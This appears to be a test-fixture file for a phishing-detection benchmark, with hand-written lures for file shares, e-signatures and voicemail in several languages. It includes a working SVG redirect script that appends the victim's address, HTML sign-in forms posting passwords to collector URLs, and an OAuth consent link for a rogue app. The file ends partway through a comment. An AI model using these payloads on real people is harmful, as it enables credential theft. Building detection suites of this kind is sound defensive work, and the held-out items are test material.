// Credential phishing behind a shared document: file shares (SharePoint, OneDrive,
// Dropbox, Drive), e-signature envelopes and voicemail notices (lures file-share, e-signature,
// voicemail).
// Every message is hand-written for this suite from what lands in inboxes and what APWG, CERTs
// and vendors report (none comes from a corpus). Cases marked `heldOut` come from the blind
// batches and the lures written beside their rules: the model never trains on them
// (scripts/export-case-mail.ts), so `npm run bench:cases` reads them as unseen mail.

import { textPdf } from './formats-builders.ts';
import {
  attachment,
  document,
  gmailBody,
  loginPage,
  mail,
  multipart,
  plain,
  redirectPage,
  sendgridHeaders,
  sesHeaders,
  SPOOFED,
  THROWAWAY,
  withoutTrace,
} from './mail-builder.ts';
import type { PhishingCase } from './mail-case.ts';

/** An SVG "voice message" that sends the browser to the collector with the victim's address (the 2024–2025 SVG wave). */
function svgRedirect(target: string, email: string): string {
  return [
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?>',
    '<svg xmlns="http://www.w3.org/2000/svg" width="420" height="120" viewBox="0 0 420 120">',
    '<rect width="420" height="120" rx="8" fill="#f3f2f1"/><text x="24" y="66" font-family="Segoe UI" font-size="18">&#9654; Playing voice message (00:38)…</text>',
    `<script type="text/javascript"><![CDATA[var e="${Buffer.from(email).toString('base64')}";window.location.href=atob("${Buffer.from(target).toString('base64')}")+e;]]></script>`,
    '</svg>',
  ].join('\n');
}

/** A calendar invitation whose description carries the link (the invite lands in the calendar even when the mail is not opened). */
function invite(organizer: string, attendee: string, summary: string, start: string, description: string, url: string): string {
  return [
    'BEGIN:VCALENDAR',
    'PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN',
    'VERSION:2.0',
    'METHOD:REQUEST',
    'BEGIN:VEVENT',
    'UID:040000008200E00074C5B7101A82E0080000000010f3a5c2b1d4db01000000000000000010000000a7d4e3f1',
    `DTSTAMP:${start}`,
    `DTSTART:${start}`,
    `DTEND:${start.replace(/T(\d\d)/, (_, hour: string) => `T${String(Number(hour) + 1).padStart(2, '0')}`)}`,
    `SUMMARY:${summary}`,
    `ORGANIZER;CN="${organizer}":mailto:${organizer}`,
    `ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:${attendee}`,
    `DESCRIPTION:${description}\\n\\n${url}`,
    `URL:${url}`,
    `LOCATION:${url}`,
    'BEGIN:VALARM',
    'TRIGGER:-PT15M',
    'ACTION:DISPLAY',
    'DESCRIPTION:Reminder',
    'END:VALARM',
    'END:VEVENT',
    'END:VCALENDAR',
    '',
  ].join('\r\n');
}

/** A look-alike sign-in page saved as an attachment: the address filled in, the form posting to the collector. */
function signInPage(title: string, email: string, collector: string): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body style="font-family:Segoe UI,Arial;background:#f2f2f2">
<div style="width:380px;margin:80px auto;background:#fff;padding:36px"><h2>${title}</h2><p>Sign in to play your message</p>
<form method="post" action="${collector}"><input name="u" value="${email}"><input name="p" type="password" placeholder="Password"><button type="submit">Sign in</button></form></div></body></html>`;
}

export const SHARED_DOCUMENTS_CASES: readonly PhishingCase[] = [
  {
    name: 'SharePoint "shared a file with you" from a compromised accounting firm, link to r2.dev',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Diane Whitcombe <dwhitcombe@harlowmeadecpa.com>',
      to: 'Mark Jenkins <mark.jenkins@collingwoodlogistics.com>',
      subject: 'Diane Whitcombe shared "Q4 Remittance Advice - Collingwood.pdf" with you',
      date: 'Tue, 14 Jan 2025 15:27:03 -0600',
      messageId: 'BY5PR17MB3921A0C4E6F28D15B0E4C2A1D9F42@BY5PR17MB3921.namprd17.prod.outlook.com',
      dkim: ['harlowmeadecpa.com:selector1'],
      relay: 'NAM12-BN8-obe.outbound.protection.outlook.com [40.107.237.62]',
      headers: ['X-MS-Exchange-Organization-AuthAs: Internal', 'X-Mailer: Microsoft Outlook 16.0'],
      body: document(
        [
          { heading: 'Diane Whitcombe shared a file with you' },
          "Here's the document that Diane Whitcombe shared with you.",
          {
            rows: [
              ['File', 'Q4 Remittance Advice - Collingwood.pdf'],
              ['Size', '284 KB'],
            ],
          },
          'This link will work for anyone with the Microsoft 365 account it was sent to.',
          { button: 'Open', href: 'https://pub-7c1e94b0d2a84f6c9e3b51d0a8f2c7e4.r2.dev/sharepoint/view.html#mark.jenkins@collingwoodlogistics.com' },
          {
            small:
              'Microsoft respects your privacy. To learn more, please read our Privacy Statement. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
          },
        ],
        { title: 'SharePoint' },
      ),
    }),
  },

  {
    name: 'DocuSign "salary adjustment agreement" from a throw-away .top domain',
    lang: 'en',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: mail({
      from: 'DocuSign via HR Department <dse_na4@docusign-esign-hr.top>',
      to: 'Priya Natarajan <priya.natarajan@meridianbiolabs.com>',
      subject: 'Complete with DocuSign: 2025 Salary Adjustment & Bonus Agreement.pdf',
      date: 'Mon, 3 Mar 2025 09:12:44 +0000',
      messageId: '20250303091244.9f3b2c71e4a8@docusign-esign-hr.top',
      dkim: ['docusign-esign-hr.top:default'],
      relay: 'mail.docusign-esign-hr.top [203.0.113.41]',
      auth: { dmarc: 'none' },
      body: document([
        { image: 'https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/email-logo.png', alt: 'DocuSign' },
        { heading: 'HR Department sent you a document to review and sign.' },
        {
          button: 'REVIEW DOCUMENT',
          href: 'https://docusign-esign-hr.top/Signing/EmailStart.aspx?a=7f2c1b9e&etti=24&acct=priya.natarajan@meridianbiolabs.com',
        },
        'Please review and complete the 2025 Salary Adjustment & Bonus Agreement by end of day. The agreement reflects the compensation changes approved in the annual review cycle.',
        'Thank you,',
        'Human Resources',
        {
          small:
            'Do Not Share This Email. This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others. About DocuSign: Sign documents electronically in just minutes.',
        },
      ]),
    }),
  },

  {
    name: "Voicemail notice spoofing the recipient's own domain, HTML attachment with a sign-in form",
    lang: 'en',
    lure: 'voicemail',
    expect: ['phishing'],
    raw: mail({
      from: 'Voice Mail Service <voicemail@brightwaterdental.com>',
      to: 'Laura Chen <laura.chen@brightwaterdental.com>',
      subject: '🔊 New Voicemail from +1 (469) ***-**18 <Duration 00:47>',
      date: 'Thu, 22 Aug 2024 17:48:20 +0000',
      messageId: '1724348900.7731@vps-4471.example.net',
      returnPath: 'root@vps-4471.example.net',
      relay: 'vps-4471.example.net [198.51.100.77]',
      auth: { dkim: 'none', spf: 'softfail', dmarc: 'fail' },
      headers: ['X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)'],
      body: multipart('mixed', [
        document([
          { heading: 'You have a new voice message' },
          {
            rows: [
              ['From', '+1 (469) ***-**18'],
              ['Received', 'Thursday, August 22, 2024 12:48 PM'],
              ['Length', '00:47 sec'],
              ['Mailbox', 'laura.chen@brightwaterdental.com'],
            ],
          },
          'Download and open the attached audio file to listen to the message.',
          { small: 'Unified Messaging — brightwaterdental.com' },
        ]),
        attachment(
          'VM_Play_0047sec_laura.chen.htm',
          'text/html',
          loginPage({
            title: 'Voicemail - Sign in',
            brand: 'Microsoft',
            email: 'laura.chen@brightwaterdental.com',
            action: 'https://vm-audio-cdn.workers.dev/next.php',
            prompt: 'Sign in to play your voice message.',
          }),
        ),
      ]),
    }),
  },

  {
    name: 'Adobe Acrobat Sign: Vertrag zur Unterschrift über einen missbrauchten SendGrid-Account',
    lang: 'de',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: mail({
      from: 'Adobe Acrobat Sign <echosign@kanzlei-hartmann-partner.de>',
      to: 'Michael Braun <m.braun@braun-immobilien.de>',
      subject: 'Bitte unterschreiben: Mietvertrag_Gewerbe_2025_Braun.pdf',
      date: 'Wed, 5 Feb 2025 14:36:21 +0000',
      messageId: 'Xq7RkT2mQ9a1B3cD4eF5gH@geopod-ismtpd-12',
      dkim: ['kanzlei-hartmann-partner.de:s1', 'sendgrid.info:smtpapi'],
      returnPath: 'bounces+38114927-7a1e-m.braun=braun-immobilien.de@em4417.kanzlei-hartmann-partner.de',
      relay: 'o1.ptr4417.kanzlei-hartmann-partner.de [149.72.114.37]',
      headers: ['X-SG-EID: u001.Qx7kP2mN9vR4tW1yZ3bC5dF8hJ0lL6nP', 'X-Entity-ID: u001.x8Rk2Lm9Qp4Tz7Vw1Yb3Cd=='],
      body: document(
        [
          { image: 'https://secure.na1.adobesign.com/images/adobe_sign_logo.png', alt: 'Adobe Acrobat Sign' },
          { heading: 'Kanzlei Hartmann & Partner hat Sie gebeten, Mietvertrag_Gewerbe_2025_Braun.pdf zu unterschreiben' },
          'Bitte prüfen und unterschreiben Sie das Dokument bis zum 07.02.2025.',
          { button: 'Prüfen und unterschreiben', href: 'https://u38114927.ct.sendgrid.net/ls/click?upn=u001.Kx7Rq2mT9vN4pW1yZ3bC5dF8hJ0lL6nP-2BQk7Rm' },
          { small: 'Adobe Acrobat Sign. Leiten Sie diese E-Mail nicht weiter: Jeder, der diese E-Mail hat, kann das Dokument unterschreiben.' },
        ],
        { lang: 'de' },
      ),
    }),
  },

  {
    name: 'OneDrive : document partagé depuis un cabinet compromis, lien firebaseapp',
    lang: 'fr',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Élodie Renaud <e.renaud@cabinet-renaud-avocats.fr>',
      to: 'Olivier Fabre <olivier.fabre@fabre-immobilier.fr>',
      subject: 'Élodie Renaud a partagé « Compromis de vente signé.pdf » avec vous',
      date: 'Wed, 9 Oct 2024 11:07:33 +0200',
      messageId: 'PR3P192MB0858B7C6D5E4F3A2B1C0D9E8F7A6B@PR3P192MB0858.EURP192.PROD.OUTLOOK.COM',
      dkim: ['cabinet-renaud-avocats.fr:selector1'],
      relay: 'EUR01-VI1-obe.outbound.protection.outlook.com [40.107.14.110]',
      body: document(
        [
          { heading: 'Élodie Renaud a partagé un fichier avec vous' },
          "Voici le document qu'Élodie Renaud a partagé avec vous.",
          { rows: [['Fichier', 'Compromis de vente signé.pdf']] },
          { button: 'Ouvrir', href: 'https://onedrive-partage-docs.firebaseapp.com/fr/?id=olivier.fabre@fabre-immobilier.fr' },
          'Ce lien ne fonctionnera que pour les destinataires directs de ce message.',
          { small: 'Déclaration de confidentialité Microsoft' },
        ],
        { lang: 'fr' },
      ),
    }),
  },

  {
    // Docs comment notifications carry the comment text verbatim, links included; a mention
    // is enough to make Google mail anyone.
    name: 'Google Docs comment mention carrying a "refund on hold, confirm your card" link',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Marcus Hale (Google Docs) <comments-noreply@docs.google.com>',
      to: 'karen.brooks1979@gmail.com',
      replyTo: 'Marcus Hale <m.hale.refunds2@gmail.com>',
      subject: 'Marcus Hale mentioned you in "Refund Statement – Case 88213"',
      date: 'Wed, 11 Jun 2025 07:05:19 -0700',
      messageId: 'docs-comments-b7e2c1f9a4d83e6c0a5f@docs.google.com',
      dkim: ['docs.google.com:20230601'],
      returnPath: '3Ya7hZwgTCbU6mh-4dl5gy-5r2.rzb@docos.bounces.google.com',
      relay: 'mail-sor-f73.google.com [209.85.220.73]',
      headers: ['Feedback-ID: 0:docos-comments:docos'],
      body: document([
        'Marcus Hale mentioned you in a comment in the following document',
        { heading: 'Refund Statement – Case 88213' },
        '“+karen.brooks1979@gmail.com A refund of $2,349.00 from your Amazon order has been put on hold. Confirm your card within 24 hours to release it: https://refund-release-center.com/claim?case=88213”',
        { button: 'Open', href: 'https://docs.google.com/document/d/1Hk2Lq8Rz5Nw7Vb3Xc9Mp4Tj6Fd0As1Gy/edit?disco=AAAA9xK2mQ&usp=comment_email_document' },
        {
          small:
            'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA. You have received this email because you are mentioned in this thread. Change what Google Docs sends you.',
        },
      ]),
    }),
  },

  {
    // A criminal's own DocuSign account: genuine docusign.net sender; the envelope message
    // sends the reader to an outside "secure viewer" before anything is signed.
    name: 'Real DocuSign envelope from a criminal\'s account whose message links to an outside "secure viewer"',
    lang: 'en',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: mail({
      from: 'Accounts Payable via Docusign <dse_NA3@docusign.net>',
      to: 'Greg Thompson <gthompson@pinecrestmechanical.com>',
      subject: 'Complete with Docusign: Remittance_Advice_PMC_0614.pdf',
      date: 'Mon, 16 Jun 2025 13:41:07 +0000',
      messageId: '4c9e2a7b1f3d8e0c6a5b2d9f7e1c3a8b@docusign.net',
      dkim: ['docusign.net:s1'],
      relay: 'mailna3.docusign.net [64.207.219.71]',
      body: document([
        { image: 'https://na3.docusign.net/Member/Images/email/docusign-logo.png', alt: 'Docusign' },
        { heading: 'Accounts Payable sent you a document to review and sign.' },
        {
          button: 'REVIEW DOCUMENT',
          href: 'https://na3.docusign.net/Signing/EmailStart.aspx?a=3e7c1b9a-2d4f-4a6e-8c0b-5f1e9d2a7c4b&etti=24&acct=7b2e4c9a-1d3f-4e5a-9c8b-0f2e6d1a3c5b&er=9a1c3e5b-7d2f-4b6a-8e0c-2f4a6c8e0b1d',
        },
        'Accounts Payable',
        'Hello, the remittance for invoice PMC-0614 ($38,760.00) has been released. Because of its size, the payment confirmation is held in our secure viewer: please access it with your company email login at https://remit-secureview.net/pmc/0614 before signing the acknowledgement.',
        {
          small:
            "Do Not Share This Email. This email contains a secure link to Docusign. Please do not share this email, link, or access code with others. Alternate Signing Method: visit Docusign.com, click 'Access Documents', and enter the security code: 3E7C1B9A2D4F4A6E8C0B5F1E9D2A7C4B3",
        },
      ]),
    }),
  },

  {
    // Dropbox's genuine share mail from a hijacked customer account: everything passes and the
    // sharer is a real person the reader may know; the note asks for the mail password.
    name: 'Dropbox share from a hijacked customer account: "sign in with your email password to view the contract"',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Rachel Dunmore (via Dropbox) <no-reply@dropbox.com>',
      to: 'Steve Albright <steve@albrightroofing.com>',
      replyTo: 'Rachel Dunmore <rachel@dunmorehomes.com>',
      subject: 'Rachel Dunmore shared "Signed Contract & Payment Schedule" with you',
      date: 'Thu, 27 Feb 2025 16:33:21 +0000',
      messageId: '20250227163321.7e1c9a2b4f6d@dropbox.com',
      dkim: ['dropbox.com:scph0922'],
      relay: 'mail-sor-f71.dropbox.com [162.125.6.71]',
      body: document([
        'Rachel Dunmore (rachel@dunmorehomes.com) invited you to view the folder "Signed Contract & Payment Schedule" on Dropbox.',
        '"Hi, please review the signed contract and the payment schedule for the Oakridge project. For security, sign in with your email and email password to open the PDF."',
        { button: 'Go to folder', href: 'https://www.dropbox.com/scl/fo/q8w2e4r6t1y3u5i7o9p0a/h?rlkey=z1x3c5v7b9n2m4l6k8j0h&dl=0' },
        { small: 'Enjoy! The Dropbox team. © 2025 Dropbox, Inc.' },
      ]),
    }),
  },

  {
    // The SVG wave of 2024–2025: a picture file that is really a script redirecting to the
    // collector with the victim's address appended.
    name: 'Voicemail as an .svg attachment whose script redirects to a sign-in page with the address appended',
    lang: 'en',
    lure: 'voicemail',
    expect: ['phishing', 'malware'],
    raw: mail({
      from: 'Voice Message <vm-notify@kensingtonchiro.com>',
      to: 'Amy Rhodes <arhodes@kellerwhitfield.com>',
      subject: 'VM Received for arhodes – Caller (214) ***-**77 – 0:38',
      date: 'Tue, 29 Oct 2024 14:22:05 +0000',
      messageId: '20241029142205.5a9e1c@kensingtonchiro.com',
      dkim: ['kensingtonchiro.com:default'],
      relay: 'gator4121.hostgator.com [192.0.2.121]',
      auth: { dmarc: 'none' },
      body: multipart('mixed', [
        document([
          { heading: 'You have a new voice message' },
          {
            rows: [
              ['Caller', '(214) ***-**77'],
              ['Duration', '0:38'],
              ['Recipient', 'arhodes@kellerwhitfield.com'],
            ],
          },
          'Open the attached message to listen.',
        ]),
        attachment('Playback_VM_arhodes_0038.svg', 'image/svg+xml', svgRedirect('https://vm-playback.b-cdn.net/auth/?u=', 'arhodes@kellerwhitfield.com')),
      ]),
    }),
  },

  {
    name: 'Clicksign imitado: "contrato aguardando sua assinatura" via SendGrid de um domínio parecido',
    lang: 'pt-BR',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: mail({
      from: 'Clicksign <naoresponda@clicksign-documentos.com>',
      to: 'Eduardo Pacheco <eduardo@pachecoconsultoria.com.br>',
      subject: 'Aditivo_Contratual_2025.pdf aguardando sua assinatura',
      date: 'Tue, 21 Oct 2025 14:22:09 -0300',
      messageId: 'Hq3Lm8Rz2Nw6Vb1Xc7Mp4T@geopod-ismtpd-9',
      dkim: ['clicksign-documentos.com:s1', 'sendgrid.info:smtpapi'],
      returnPath: 'bounces+51127734-a1c2-eduardo=pachecoconsultoria.com.br@em3311.clicksign-documentos.com',
      relay: 'o3.ptr3311.clicksign-documentos.com [149.72.97.33]',
      headers: ['X-SG-EID: u001.Zr5Lm2Qx8Tn1Vb4Kc7Wp0Hd3Fj6As9Gy'],
      body: document(
        [
          { heading: 'Você tem um documento para assinar' },
          'Departamento Jurídico enviou o documento "Aditivo_Contratual_2025.pdf" para você assinar.',
          'Mensagem: "Eduardo, segue o aditivo com os novos valores. Precisamos da assinatura ainda hoje para liberar o pagamento."',
          { button: 'Visualizar para assinar', href: 'https://u51127734.ct.sendgrid.net/ls/click?upn=u001.Pk2Rz8Lm5Nw1Vb7Xc3Mp9T-2Fq4' },
          { small: 'Clicksign – Assinaturas eletrônicas com validade jurídica.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },

  {
    name: 'NOS: nova mensagem de voz num anexo .htm que pede a palavra-passe do e-mail',
    lang: 'pt-PT',
    lure: 'voicemail',
    expect: ['phishing'],
    raw: mail({
      from: 'Correio de Voz <voicemail@clinicadentariasilva.pt>',
      to: 'Catarina Lopes <catarina.lopes@imobiliariaribeira.pt>',
      subject: 'Nova mensagem de voz de +351 21 *** **47 (0:52)',
      date: 'Tue, 25 Nov 2025 11:18:07 +0000',
      messageId: '20251125111807.4a2c9e@clinicadentariasilva.pt',
      dkim: ['clinicadentariasilva.pt:default'],
      relay: 'server14.ptisp.pt [192.0.2.114]',
      auth: { dmarc: 'none' },
      body: multipart('mixed', [
        document(
          [
            { heading: 'Tem uma nova mensagem de voz' },
            {
              rows: [
                ['De', '+351 21 *** **47'],
                ['Duração', '0:52'],
                ['Caixa', 'catarina.lopes@imobiliariaribeira.pt'],
              ],
            },
            'Abra o anexo para ouvir a mensagem.',
            { small: 'Serviço de Correio de Voz NOS Empresas' },
          ],
          { lang: 'pt-PT' },
        ),
        attachment(
          'Mensagem_Voz_052s.htm',
          'text/html',
          [
            '<!DOCTYPE html><html lang="pt"><head><meta charset="utf-8"><title>Correio de Voz</title></head>',
            '<body style="font-family:Arial"><h3>Para ouvir a mensagem, confirme a sua conta de e-mail</h3>',
            '<form method="POST" action="https://voz-nos-empresas.pages.dev/ok.php"><input type="email" name="u" value="catarina.lopes@imobiliariaribeira.pt"><input type="password" name="p" placeholder="Palavra-passe"><button>Ouvir</button></form>',
            '</body></html>',
          ].join('\n'),
        ),
      ]),
    }),
  },

  {
    // Compromised tax adviser's Microsoft 365 mailbox shares an Adobe Express page; the page
    // (on adobe.com) carries the "view document" button to the collector.
    name: 'Steuerberater mit kompromittiertem Postfach teilt ein "Dokument" als Adobe-Express-Seite',
    lang: 'de',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Claudia Neumann <c.neumann@stb-neumann-partner.de>',
      to: 'Uwe Brandt <u.brandt@brandt-haustechnik.de>',
      subject: 'Claudia Neumann hat "Jahresabschluss 2024 – Brandt Haustechnik" für Sie freigegeben',
      date: 'Tue, 17 Jun 2025 11:27:45 +0200',
      messageId: 'FR2P281MB2251A9C8B7D6E5F4A3B2C1D0E9F8A@FR2P281MB2251.DEUP281.PROD.OUTLOOK.COM',
      dkim: ['stb-neumann-partner.de:selector1'],
      relay: 'DEU01-BE0-obe.outbound.protection.outlook.com [40.107.135.88]',
      body: document(
        [
          { heading: 'Claudia Neumann hat eine Datei für Sie freigegeben' },
          'Jahresabschluss 2024 – Brandt Haustechnik.pdf (2 Seiten)',
          'Bitte prüfen Sie die Unterlagen bis Freitag. Zum Öffnen melden Sie sich mit Ihrer geschäftlichen E-Mail-Adresse an.',
          { button: 'Dokument öffnen', href: 'https://new.express.adobe.com/webpage/Xq7Lm2Rz9Nw4V' },
          { small: 'Steuerberatung Neumann & Partner mbB, Theaterstraße 8, 30159 Hannover.' },
        ],
        { lang: 'de' },
      ),
    }),
  },

  {
    name: 'Yousign imité : « document à signer » via SendGrid depuis un domaine sosie',
    lang: 'fr',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: mail({
      from: 'Yousign <notification@yousign-signature.fr.com>',
      to: 'Isabelle Rousseau <i.rousseau@cabinet-rousseau-avocats.fr>',
      subject: 'Isabelle, vous avez un document à signer : Protocole_accord_2025.pdf',
      date: 'Mon, 13 Oct 2025 09:51:36 +0000',
      messageId: 'Pk8Rz2Lm5Nw9Vb3Xc1Mp7T@geopod-ismtpd-14',
      dkim: ['yousign-signature.fr.com:s1', 'sendgrid.info:smtpapi'],
      returnPath: 'bounces+62281194-b7d1-i.rousseau=cabinet-rousseau-avocats.fr@em1182.yousign-signature.fr.com',
      relay: 'o4.ptr1182.yousign-signature.fr.com [149.72.61.182]',
      headers: ['X-SG-EID: u001.Wq4Lm7Rz1Nx8Vb2Kc5Tp9Hd0Fj3As6Gy'],
      body: document(
        [
          { heading: 'Vous êtes invité(e) à signer un document' },
          'Maître Delcourt vous invite à signer « Protocole_accord_2025.pdf ».',
          "Message : « Bonjour, voici le protocole d'accord finalisé. Merci de le signer aujourd'hui afin que nous puissions procéder au virement. »",
          { button: 'Accéder au document', href: 'https://u62281194.ct.sendgrid.net/ls/click?upn=u001.Tn4Kq8Lm1Rz5Vb9Xc2Mp6-2Bw3' },
          { small: 'Yousign SAS – Signature électronique. Ne transférez pas cet e-mail.' },
        ],
        { lang: 'fr' },
      ),
    }),
  },

  {
    name: 'WeTransfer nagemaakt: "u heeft 3 bestanden ontvangen" van een look-alike, downloaden vraagt om inloggen',
    lang: 'nl',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'WeTransfer <noreply@wetransfer-bestanden.net>',
      to: 'Mark Visser <m.visser@visserbouw.nl>',
      subject: 'Offerte_Visser_Bouw_2025.pdf via WeTransfer',
      date: 'Wed, 25 Jun 2025 10:41:52 +0200',
      messageId: 'wt.1750840912.9e1a@wetransfer-bestanden.net',
      dkim: ['wetransfer-bestanden.net:s1'],
      relay: 'mail.wetransfer-bestanden.net [198.51.100.62]',
      auth: { dmarc: 'none' },
      body: document(
        [
          { heading: 'Je hebt 3 bestanden ontvangen' },
          'inkoop@dekkerinstallatie.nl heeft je bestanden gestuurd.',
          '"Beste Mark, hierbij de offerte en tekeningen zoals besproken. Graag vandaag akkoord."',
          {
            rows: [
              ['Bestanden', 'Offerte_Visser_Bouw_2025.pdf, Tekening_A1.pdf, Planning.xlsx'],
              ['Grootte', '14,2 MB'],
              ['Verloopt', 'over 2 dagen'],
            ],
          },
          { button: 'Bestanden downloaden', href: 'https://wetransfer-bestanden.net/downloads/7f2a9c1e/login' },
          { small: 'WeTransfer B.V. – Om veiligheidsredenen moet je inloggen met je zakelijke e-mailaccount.' },
        ],
        { lang: 'nl' },
      ),
    }),
  },

  {
    // Consent phishing: the link is Microsoft's real sign-in page, but it asks the reader to
    // grant a rogue multi-tenant app offline access to mail and files. Sent from a compromised
    // law firm's Microsoft 365 tenant, so SPF, DKIM and DMARC all pass.
    name: 'Compromised law firm shares "Settlement_Agreement.pdf" through an OAuth consent link for a rogue app',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Rachel Whitmore <rwhitmore@whitmorecaldwell-law.com>',
      to: 'Jason Pruitt <jpruitt@summitridgebuilders.com>',
      subject: 'Settlement agreement – signed copy for your records',
      date: 'Tue, 10 Jun 2025 16:04:55 +0000',
      messageId: 'SA1PR04MB8833A1C7E2F9B4D06C3E5F1A9B2D4@SA1PR04MB8833.namprd04.prod.outlook.com',
      dkim: ['whitmorecaldwell-law.com:selector1'],
      relay: 'mail-dm6nam12on2104.outbound.protection.outlook.com [40.107.243.104]',
      headers: ['X-MS-Exchange-Organization-AuthAs: Internal', 'Thread-Topic: Settlement agreement – signed copy for your records'],
      body: document([
        'Hi Jason,',
        "Please find the countersigned settlement agreement shared via our secure document portal. You'll be asked to sign in with your Microsoft 365 account and accept the viewer permissions to open it.",
        {
          button: 'View Settlement_Agreement.pdf',
          href: 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=7c4e2a91-3b8d-4f6e-a1c5-9d0b2e7f4a36&response_type=code&redirect_uri=https%3A%2F%2Fsecure-docview.cfd%2Fauth%2Fcallback&scope=offline_access%20Mail.ReadWrite%20Mail.Send%20Files.ReadWrite.All%20User.Read&prompt=consent&state=jpruitt',
        },
        'Best regards,\nRachel Whitmore\nParalegal | Whitmore Caldwell LLP\n1400 Peachtree St NE, Suite 900, Atlanta, GA 30309',
      ]),
    }),
  },

  {
    // Canva's genuine share mail: canva.com signs, the link opens a real Canva design whose one
    // button leads to the credential page. The lure is the design title and the sharer's note.
    name: 'Real Canva share of a design titled "Remittance Advice – View Secure Document" from a hijacked vendor account',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Dana Kessler via Canva <no-reply@canva.com>',
      to: 'accounts@brightlinelogistics.com',
      replyTo: 'dana.kessler@kesslerfreight.com',
      subject: 'Dana Kessler shared "Remittance Advice – View Secure Document" with you',
      date: 'Fri, 7 Feb 2025 17:52:30 +0000',
      messageId: '0100019488a3c2d1-6e2f7b9a-3c41-4d8e-a5b7-1f9c2e4d6a80-000000@email.amazonses.com',
      dkim: ['canva.com:s2', 'amazonses.com:224i4yxa5dv7c2xz3womw6peuasteono'],
      returnPath: '0100019488a3c2d1-6e2f7b9a-3c41-4d8e-a5b7-1f9c2e4d6a80-000000@mail.canva.com',
      relay: 'a48-112.smtp-out.amazonses.com [54.240.48.112]',
      headers: sesHeaders('us-east-1', '1.us-east-1.Pk3Vx8Lm2Tz7Rb4Wn9Qc5Hd1Fj6As0Gy=', '2025.02.07-54.240.48.112'),
      body: document([
        { image: 'https://static.canva.com/emails/canva-logo.png', alt: 'Canva' },
        { heading: 'Dana Kessler shared a design with you' },
        '“Hi, please see the attached remittance advice for invoices 2291–2297. Click the button on the page to view the secure document with your email account.”',
        {
          button: 'Open design',
          href: 'https://www.canva.com/design/DAGd8kLq2Rz/7vXbT3mN1pQw9YcK4hF6sA/view?utm_content=DAGd8kLq2Rz&utm_campaign=designshare&utm_medium=link&utm_source=sharebutton',
        },
        { small: 'Canva, 110 Kippax St, Surry Hills NSW 2010, Australia. You received this email because Dana Kessler shared a design with you.' },
      ]),
    }),
  },

  {
    // Adobe's own share mail abused: a free Adobe account shares a PDF in Acrobat online whose
    // one link leads to the credential page. adobe.com signs; the name of the file is the lure.
    name: 'Adobe Acrobat real: una "gestoría" comparte "Contrato_arrendamiento_firmado.pdf" desde una cuenta gratuita',
    lang: 'es',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Gestoría Alameda via Adobe Acrobat <message@adobe.com>',
      to: 'lucia.ferrer@inmoferrer.es',
      replyTo: 'gestoria.alameda.docs@gmail.com',
      subject: 'Gestoría Alameda ha compartido «Contrato_arrendamiento_firmado.pdf» con usted',
      date: 'Wed, 12 Mar 2025 12:31:48 +0000',
      messageId: '1741782708123.4b9c2e1a7f3d@acrobat.adobe.com',
      dkim: ['adobe.com:ac1', 'adobesign.com:s2'],
      returnPath: 'bounce-acrobat-88123@mail.adobe.com',
      relay: 'mail-out22.adobe.com [192.150.8.122]',
      body: document(
        [
          { heading: 'Gestoría Alameda ha compartido un archivo con usted' },
          '«Buenos días, le adjunto el contrato firmado por ambas partes. Para verlo, pulse en el enlace del documento e inicie sesión con su correo.»',
          { button: 'Abrir', href: 'https://acrobat.adobe.com/id/urn:aaid:sc:EU:7b2e4c9a-1d3f-4e5a-9c8b-0f2e6d1a3c5b' },
          {
            small:
              'Adobe Inc., 345 Park Avenue, San José, CA 95110-2704, EE. UU. Ha recibido este mensaje porque Gestoría Alameda compartió un archivo con usted.',
          },
        ],
        { lang: 'es' },
      ),
    }),
  },

  {
    // Tender lure aimed at contractors: a compromised engineering consultancy (DKIM passes)
    // invites to tender; the "documents" are a Google Sites page behind a Microsoft sign-in.
    name: 'Invitation to tender from a compromised consultancy, tender pack on Google Sites behind a sign-in',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Procurement | Aldridge Consulting Engineers <procurement@aldridge-ce.co.uk>',
      to: 'Estimating <estimating@northgateroofing.co.uk>',
      subject: 'ITT-2025-117: Invitation to Tender – Roof refurbishment, Block C',
      date: 'Wed, 16 Apr 2025 10:05:33 +0100',
      messageId: 'LO2P265MB4471E2C9A1F7B30D5E8C6F2A1B4D9@LO2P265MB4471.GBRP265.PROD.OUTLOOK.COM',
      dkim: ['aldridge-ce.co.uk:selector1'],
      relay: 'mail-lo2gbr01on2139.outbound.protection.outlook.com [40.107.10.139]',
      body: document([
        'Good morning,',
        'You are invited to tender for the roof refurbishment of Block C. The tender pack (drawings, specification and pricing schedule) is available on our tender portal. Returns are due by 12:00 on 30 April.',
        { button: 'Access tender documents', href: 'https://sites.google.com/view/aldridge-tender-itt2025117/home' },
        'Kind regards,\nProcurement Team\nAldridge Consulting Engineers',
      ]),
    }),
  },

  {
    // Public-tender lure at construction firms: a hijacked consultancy's mailbox (DKIM passes)
